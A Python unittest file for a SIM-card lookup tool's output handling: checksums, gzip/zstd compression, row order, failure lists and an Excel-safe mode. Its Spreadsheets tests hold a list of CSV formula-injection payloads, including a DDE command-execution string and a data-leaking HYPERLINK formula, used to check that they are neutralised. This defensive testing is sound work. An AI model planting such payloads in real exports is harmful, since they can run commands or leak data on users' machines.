#!/usr/bin/env python3
"""Where `resolve` puts its rows and how: compression, spreadsheets, order, the list of failures."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import re
import signal
import subprocess
import unittest
from unittest.mock import patch

import independent_carrier
from program_test_case import ProgramTestCase, as_list, iccids, imsis, rows_of

CARDS = 1_050
FAILURE_FIELDS = ["line", "number", "kind", "status", "message"]


def unzstd(content: bytes) -> bytes:
    """By the tool, which is not ours."""
    return subprocess.run(["zstd", "-dc"], input=content, capture_output=True, check=True).stdout


def decompress(name: str, content: bytes) -> bytes:
    return gzip.decompress(content) if ".gz" in name else unzstd(content)


def by_line(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    return sorted(rows, key=lambda row: int(row["line"]))


class OutputTestCase(ProgramTestCase):
    def read(self, name: str) -> bytes:
        return (self.folder / name).read_bytes()

    def failures_of(self, content: bytes) -> list[dict[str, str]]:
        reader = csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True)
        rows = list(reader)
        self.assertEqual(reader.fieldnames, FAILURE_FIELDS)
        return rows

    def simulated(self, *arguments: str, stdin: bytes = as_list(iccids(CARDS))) -> subprocess.CompletedProcess[bytes]:
        return self.run_program("resolve", "--base-url", "simulator", *arguments, stdin=stdin)


class Checksums(OutputTestCase):
    def digests(self) -> tuple[str | None, str | None]:
        return self.summary()["input"]["sha256"], self.summary()["output"]["sha256"]

    def test_are_those_of_the_files(self) -> None:
        (self.folder / "cards.txt").write_bytes(as_list(iccids(CARDS)))
        for name in ("out.csv", "out.csv.gz", "out.ndjson"):
            with self.subTest(name=name):
                self.assert_exit(self.simulated("cards.txt", "-o", name, "--summary", "summary.json", "--checksum"), 0)
                self.assertEqual(self.digests(), tuple(hashlib.sha256(self.read(file)).hexdigest()
                                                       for file in ("cards.txt", name)))

    def test_are_not_there_where_they_are_not_wanted_or_there_is_no_file(self) -> None:
        self.assert_exit(self.simulated("-o", "out.csv", "--summary", "summary.json"), 0)
        self.assertEqual(self.digests(), (None, None))
        self.assert_exit(self.simulated("-o", "sqlite:out.db", "--summary", "summary.json", "--checksum"), 0)
        self.assertEqual(self.digests(), (None, None))

    def test_unfinished_rows_have_none(self) -> None:
        (self.folder / "cards.txt").write_bytes(as_list(iccids(CARDS)))
        self.assert_exit(self.simulated("cards.txt", "-o", "out.csv", "--summary", "summary.json", "--checksum",
                                        "--rate", "1/s", "--deadline", "1s"), 75)
        self.assertEqual(self.digests(), (hashlib.sha256(self.read("cards.txt")).hexdigest(), None))


class Compression(OutputTestCase):
    def test_the_rows_are_those_of_the_plain_file(self) -> None:
        self.assert_exit(self.simulated("--order", "input", "-o", "out.csv"), 0)
        for name in ("out.csv.gz", "out.csv.zst", "OUT.CSV.GZ"):
            with self.subTest(name=name):
                self.assert_exit(self.simulated("--order", "input", "-o", name, "--summary", "summary.json"), 0)
                content = self.read(name)
                self.assertEqual(decompress(name.lower(), content), self.read("out.csv"))
                self.assertLess(len(content), len(self.read("out.csv")) // 2)
                self.assertEqual(self.summary()["output"]["bytes"], len(content))

    def test_the_ending_before_it_names_the_format(self) -> None:
        for name, arguments in (("a.ndjson.gz", []), ("b.ndjson.zst", []), ("c.gz", ["--output-format", "ndjson"])):
            with self.subTest(name=name):
                self.assert_exit(self.simulated("-o", name, *arguments), 0)
                records = [json.loads(line) for line in decompress(name, self.read(name)).splitlines()]
                self.assertEqual(sorted(record["line"] for record in records), list(range(1, CARDS + 1)))

    def test_standard_output_is_never_compressed(self) -> None:
        done = self.simulated("-o", "-")
        self.assertEqual(len(rows_of(done.stdout)), CARDS)

    def test_what_an_early_end_leaves_is_whole(self) -> None:
        carrier = self.carrier(held=True)
        for name in ("out.csv.gz", "out.csv.zst"):
            carrier.gate.close()
            awaited = carrier.stats()["requests"] + 1
            process = self.start_program("resolve", *self.account_of(carrier), "--rate", "unlimited", "-o", name,
                                         stdin=subprocess.PIPE, variables={"CARDRESOLVER_PASSWORD": carrier.account.password})
            assert process.stdin is not None
            process.stdin.write(as_list(iccids(5_000)))
            process.stdin.flush()
            carrier.wait_for_requests(awaited)
            process.send_signal(signal.SIGTERM)
            carrier.gate.open()
            self.assertEqual(process.wait(timeout=60), 143)
            rows = rows_of(decompress(name, self.read(name + ".partial")))
            self.assertEqual(len(rows) % 100, 0)
            self.assertGreater(len(rows), 0)

    def test_a_full_disk_is_an_error(self) -> None:
        for name in ("full.csv.gz", "full.csv.zst"):
            (self.folder / name).symlink_to("/dev/full")
            self.assert_exit(self.simulated("-o", name, stdin=as_list(iccids(3))), 74)


class Computed(Exception):
    """A spreadsheet would have computed this cell."""


def shown(cell: str) -> str:
    """What a spreadsheet shows for a cell of a CSV: by the rules that Excel, LibreOffice and WPS have in common."""
    wrapped = re.fullmatch(r'="([^"]*)"', cell)
    if wrapped:
        return wrapped.group(1)
    if cell.lstrip(' "')[:1] in tuple("=+-@\t\r＝＋－＠"):
        raise Computed(cell)
    if re.fullmatch(r"[0-9]+", cell):
        return str(int(cell)) if len(cell) < 12 else f"{float(cell):.5E}"
    if re.fullmatch(r"[0-9]*\.?[0-9]+[eE][+-]?[0-9]+", cell):
        return f"{float(cell):.5E}"
    return cell


class Spreadsheets(OutputTestCase):
    HOSTILE = ["=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://x?"&A1;"y")', "\t=1", '"=1', "＝1", "a;=1",
               'x","=1', "\x1b[31mred\x07", "a\r\n=1,2,3", "\u202e=1", "123456789012345678", "1E5"]

    def cells(self, content: bytes) -> list[list[str]]:
        text = content.decode()
        for delimiter in (";", "\t"):  # what a spreadsheet of another country splits at, quotes or not
            for cell in (cell for line in text.splitlines() for cell in line.split(delimiter)):
                shown(cell)
        return [[shown(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""), strict=True)]

    def test_every_number_is_shown_as_it_is(self) -> None:
        carrier = self.carrier()
        numbers = ["898602E5143000000612", "89860250123400000617", *iccids(50), *imsis(50)]
        plain = self.resolve_against(carrier, numbers, "--order", "input")
        safe = self.resolve_against(carrier, numbers, "--order", "input", "--excel-safe")
        self.assert_exit(safe, 0)
        expected = list(csv.reader(io.StringIO(plain.stdout.decode(), newline="")))
        self.assertEqual(self.cells(safe.stdout), expected)
        self.assertNotEqual([[shown(cell) for cell in row] for row in expected], expected, "the rule bites")

    def test_such_rows_are_a_valid_input(self) -> None:
        carrier = self.carrier()
        numbers = ["898602E5143000000612", *iccids(20), *imsis(20)]
        first = self.resolve_against(carrier, numbers, "--order", "input", "--excel-safe")
        again = self.run_program("resolve", *self.account_of(carrier), "--order", "input", stdin=first.stdout,
                                 variables={"CARDRESOLVER_PASSWORD": carrier.account.password})
        self.assert_exit(again, 0)
        self.assertEqual([row["number"] for row in rows_of(again.stdout)], numbers)
        self.assertEqual({row["outcome"] for row in rows_of(again.stdout)}, {"resolved"})

    def test_HA14_a_hostile_message_breaks_nothing(self) -> None:
        carrier = self.carrier()
        for message in self.HOSTILE:
            with self.subTest(message=message), \
                 patch.dict(independent_carrier.CARD_REFUSALS, {"iccid": ("25", message)}):
                done = self.resolve_against(carrier, ["898602B2221430009999"], "--excel-safe")
                self.assert_exit(done, 0)
                rows = rows_of(done.stdout)
                self.assertEqual([(row["line"], row["outcome"], row["status"]) for row in rows], [("1", "refused", "25")])
                self.assertEqual(len(self.cells(done.stdout)[1]), 9)
                self.assertNotRegex(done.stdout.decode(), r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]")

    def test_HA14_a_hostile_number_is_neither(self) -> None:
        done = self.simulated("--excel-safe", stdin=b"=1+1\n@x\n-5\n1064826090209\n")
        self.assert_exit(done, 0)
        self.assertEqual(sorted(row[1] for row in self.cells(done.stdout)[1:]),
                         ["'-5", "'=1+1", "'@x", "1064826090209"])

    def test_ndjson_stays_as_it_is(self) -> None:
        plain = self.simulated("--order", "input", "--output-format", "ndjson")
        safe = self.simulated("--order", "input", "--output-format", "ndjson", "--excel-safe")
        self.assertEqual(plain.stdout, safe.stdout)


class Order(OutputTestCase):
    def test_a_lone_card_on_the_first_line_holds_up_nothing_for_ever(self) -> None:
        numbers = [imsis(1)[0], *iccids(20_000)]
        # So few connections that its window is many times smaller than the list; nothing but a blocked intake
        # makes the lone card's request go out.
        done = self.simulated("--order", "input", "--connections", "2", "--linger", "1h", stdin=as_list(numbers))
        self.assert_exit(done, 0)
        self.assertEqual([(row["line"], row["number"]) for row in rows_of(done.stdout)],
                         [(str(place), number) for place, number in enumerate(numbers, 1)])

    def test_repeated_invalid_and_blank_records_keep_their_places(self) -> None:
        carrier = self.carrier(modes={"shuffled", "missing-item"})
        numbers = iccids(400)
        lines = []
        for place, number in enumerate(numbers):
            lines += [number, *[""] * (place % 3), "rubbish" if place % 7 == 0 else numbers[place // 2]]
        done = self.resolve_against(carrier, lines, "--order", "input", "--connections", "3")
        self.assert_exit(done, 0)
        self.assertEqual([(int(row["line"]), row["number"]) for row in rows_of(done.stdout)],
                         [(place, line) for place, line in enumerate(lines, 1) if line])
        self.assert_proper(carrier)

    def test_rows_of_an_early_end_are_the_first_ones(self) -> None:
        carrier = self.carrier()
        process = self.start_program("resolve", *self.account_of(carrier), "--rate", "unlimited", "--order", "input",
                                     "--linger", "1h", "-o", "out.csv", "--summary", "summary.json", stdin=subprocess.PIPE,
                                     variables={"CARDRESOLVER_PASSWORD": carrier.account.password})
        assert process.stdin is not None
        process.stdin.write(as_list(["rubbish", imsis(1)[0], *iccids(100)]))
        process.stdin.flush()
        carrier.wait_for_requests(1)  # that of the ICCIDs; the IMSI waits for more of its kind
        process.send_signal(signal.SIGTERM)
        self.assertEqual(process.wait(timeout=60), 143)
        self.assertEqual([row["line"] for row in rows_of(self.read("out.csv.partial"))], ["1"])
        self.assertEqual(self.summary()["output"]["rows"], 1)
        self.assertEqual(self.summary()["outcomes"]["resolved"], 0)
        self.assertNotIn("0", self.summary()["statuses"])


class Failures(OutputTestCase):
    def test_they_are_listed_and_a_valid_input(self) -> None:
        carrier = self.carrier(modes={"missing-item"})
        numbers = iccids(CARDS)
        done = self.resolve_against(carrier, numbers, "--attempts", "1", "-o", "out.csv", "--failures", "failures.csv")
        self.assert_exit(done, 90)
        failed = [row for row in rows_of(self.read("out.csv")) if row["outcome"] == "failed"]
        self.assertEqual(len(failed), 11)
        self.assertEqual(self.failures_of(self.read("failures.csv")),
                         [{name: row[name] for name in FAILURE_FIELDS} for row in failed])
        self.assertEqual(sorted(path.name for path in self.folder.glob("*.partial")), [])
        again = self.run_program("resolve", *self.account_of(self.carrier()), "failures.csv",
                                 variables={"CARDRESOLVER_PASSWORD": carrier.account.password})
        self.assert_exit(again, 0)
        self.assertEqual({row["number"] for row in rows_of(again.stdout)}, {row["number"] for row in failed})

    def test_they_are_in_order_compressed_and_safe_like_the_rows(self) -> None:
        carrier = self.carrier(modes={"missing-item"})
        done = self.resolve_against(carrier, imsis(CARDS), "--attempts", "1", "--order", "input", "--excel-safe",
                                    "-o", "out.ndjson.zst", "--failures", "failures.csv.gz")
        self.assert_exit(done, 90)
        failures = self.failures_of(gzip.decompress(self.read("failures.csv.gz")))
        self.assertEqual(failures, by_line(failures))
        self.assertEqual({row["number"][:5] for row in failures}, {'="460'})
        records = [json.loads(line) for line in unzstd(self.read("out.ndjson.zst")).splitlines()]
        self.assertEqual([record["line"] for record in records], list(range(1, CARDS + 1)))

    def test_a_run_without_any_leaves_the_header(self) -> None:
        self.assert_exit(self.simulated("-o", "out.csv", "--failures", "failures.csv"), 0)
        self.assertEqual(self.read("failures.csv"), b"line,number,kind,status,message\n")

    def test_a_list_that_is_there_is_replaced_by_force_alone(self) -> None:
        arguments = ["-o", "out.csv", "--failures", "failures.csv"]
        (self.folder / "failures.csv").write_text("precious\n", encoding="utf-8")
        self.assert_exit(self.simulated(*arguments), 73)
        self.assertEqual([path.name for path in self.folder.glob("*.csv*")], ["failures.csv"])
        self.assert_exit(self.simulated(*arguments, "--force"), 0)
        self.assertEqual(self.failures_of(self.read("failures.csv")), [])

    def test_an_output_that_is_there_leaves_no_list_of_failures(self) -> None:
        (self.folder / "out.csv").write_text("precious\n", encoding="utf-8")
        self.assert_exit(self.simulated("-o", "out.csv", "--failures", "failures.csv"), 73)
        self.assertEqual([path.name for path in self.folder.glob("*.csv*")], ["out.csv"])

    def test_a_list_without_a_card_leaves_neither(self) -> None:
        self.assert_exit(self.simulated("-o", "out.csv", "--failures", "failures.csv", stdin=b"rubbish\n"), 65)
        self.assertEqual(list(self.folder.glob("*.csv*")), [])

    def test_a_full_disk_for_it_is_an_error_and_the_rows_do_not_appear(self) -> None:
        self.assert_exit(self.simulated("-o", "out.csv", "--failures", "/dev/full"), 74)
        self.assertEqual(sorted(path.name for path in self.folder.glob("out.csv*")),
                         ["out.csv.checkpoint", "out.csv.partial"])

    def test_it_is_no_other_file_of_the_run(self) -> None:
        (self.folder / "cards.txt").write_bytes(as_list(iccids(3)))
        for arguments in (["-o", "a.csv", "--failures", "a.csv"], ["-o", "a.csv", "--failures", "./a.csv"],
                          ["cards.txt", "--failures", "cards.txt", "--force"], ["--failures", "-"],
                          ["-o", "a.csv", "--failures", "b.csv", "--summary", "b.csv"]):
            with self.subTest(arguments=arguments):
                self.assert_exit(self.simulated(*arguments), 64)


class MaxFailures(OutputTestCase):
    def stop(self, limit: str, cards: int = 3_000, *arguments: str) -> subprocess.CompletedProcess[bytes]:
        carrier = self.carrier(modes={"missing-item"})  # a hundredth of the cards, with one attempt
        return self.resolve_against(carrier, iccids(cards), "--attempts", "1", "--connections", "1", "--max-failures", limit,
                                    "-o", "out.csv", "--failures", "failures.csv", "--summary", "summary.json", *arguments)

    def check_stopped(self, done: subprocess.CompletedProcess[bytes], failed: int) -> None:
        self.assert_exit(done, 91)
        self.assertIn(b"--max-failures", done.stderr)
        summary = self.summary()
        self.assertEqual((summary["state"], summary["outcomes"]["failed"]), ("stopped", failed))
        rows = rows_of(self.read("out.csv.partial"))
        self.assertEqual(len(rows), failed * 100)
        self.assertEqual(len(self.failures_of(self.read("failures.csv.partial"))), failed)
        self.assertEqual([path.name for path in self.folder.glob("*.csv")], [], "neither is complete")

    def test_a_number_of_cards(self) -> None:
        self.check_stopped(self.stop("3"), 3)

    def test_in_the_order_of_the_list(self) -> None:
        self.check_stopped(self.stop("3", 3_000, "--order", "input"), 3)

    def test_a_share_counts_from_1000_cards_on(self) -> None:
        self.check_stopped(self.stop("0.5%"), 10)

    def test_a_share_that_is_not_reached(self) -> None:
        self.assert_exit(self.stop("1.5%"), 90)
        self.assertEqual(len(self.failures_of(self.read("failures.csv"))), 30)

    def test_a_limit_that_is_reached_by_the_last_card(self) -> None:
        self.check_stopped(self.stop("1", 100), 1)


if __name__ == "__main__":
    unittest.main()
